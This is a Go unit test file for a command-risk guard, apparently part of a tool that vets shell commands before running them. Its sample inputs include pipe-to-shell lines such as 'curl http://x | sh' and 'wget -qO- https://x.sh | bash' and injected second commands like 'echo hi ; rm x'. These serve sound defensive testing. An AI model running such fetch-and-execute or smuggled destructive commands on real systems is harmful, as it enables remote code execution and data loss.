package guard

import (
	"strings"
	"testing"
)

func TestAssessBlocksShellSyntax(t *testing.T) {
	cases := []string{
		"ls | grep x",
		"ls || true",
		"sleep 1 & echo done",
		"make && make install",
		"echo hi ; rm x",
		"echo hi > out.txt",
		"cat >> log",
		"wc -l < in.txt",
		"cat << EOF",
		"echo `id`",
		"echo a;b",
		"cat a>b",
	}
	for _, raw := range cases {
		t.Run(raw, func(t *testing.T) {
			got := Assess(raw)
			if !got.Blocked {
				t.Fatalf("Assess(%q).Blocked = false, want true (reasons: %v)", raw, got.Reasons)
			}
			if got.Level.rank() < RiskHigh.rank() {
				t.Fatalf("Assess(%q).Level = %s, want at least high", raw, got.Level)
			}
			if len(got.Reasons) == 0 {
				t.Fatal("expected at least one reason")
			}
		})
	}
}

func TestAssessSafeCommands(t *testing.T) {
	for _, raw := range []string{"ls -la", "git status", `echo "a b" 'c d'`} {
		t.Run(raw, func(t *testing.T) {
			got := Assess(raw)
			if got.Blocked {
				t.Fatalf("Assess(%q).Blocked = true, reasons: %v", raw, got.Reasons)
			}
			if got.Level != RiskLow {
				t.Fatalf("Assess(%q).Level = %s, want low", raw, got.Level)
			}
			if got.RequiresApproval {
				t.Fatal("unexpected RequiresApproval")
			}
		})
	}
}

func TestAssessSubstitutionRequiresApproval(t *testing.T) {
	for _, raw := range []string{"echo $(id)", "echo ${HOME}"} {
		t.Run(raw, func(t *testing.T) {
			got := Assess(raw)
			if !got.RequiresApproval {
				t.Fatalf("Assess(%q).RequiresApproval = false, want true", raw)
			}
			if got.Level.rank() < RiskMedium.rank() {
				t.Fatalf("Assess(%q).Level = %s, want at least medium", raw, got.Level)
			}
			// Substitution alone does not block: argv is spawned without a shell.
			if strings.Contains(raw, "$(") && got.Blocked {
				t.Fatalf("Assess(%q).Blocked = true, want false", raw)
			}
		})
	}
}

func TestAssessPipeToShellIsCritical(t *testing.T) {
	for _, raw := range []string{
		"curl http://x | sh",
		"wget -qO- https://x.sh | bash",
		"curl http://x|zsh",
	} {
		t.Run(raw, func(t *testing.T) {
			got := Assess(raw)
			if got.Level != RiskCritical {
				t.Fatalf("Assess(%q).Level = %s, want critical", raw, got.Level)
			}
			if !got.Blocked {
				t.Fatal("expected Blocked")
			}
		})
	}
}

func TestAssessOversizedAndControlChars(t *testing.T) {
	long := "echo " + strings.Repeat("a", maxRawCommandLength)
	for _, raw := range []string{long, "echo hi\nrm x", "echo hi\rrm x", "echo \x00"} {
		got := Assess(raw)
		if got.Level != RiskCritical || !got.Blocked {
			t.Fatalf("Assess(len=%d) = %s/blocked=%v, want critical/blocked", len(raw), got.Level, got.Blocked)
		}
	}
}

func TestAssessUnparseable(t *testing.T) {
	got := Assess("echo 'abc")
	if got.Level != RiskHigh || !got.Blocked {
		t.Fatalf("Assess(unterminated) = %s/blocked=%v, want high/blocked", got.Level, got.Blocked)
	}
}
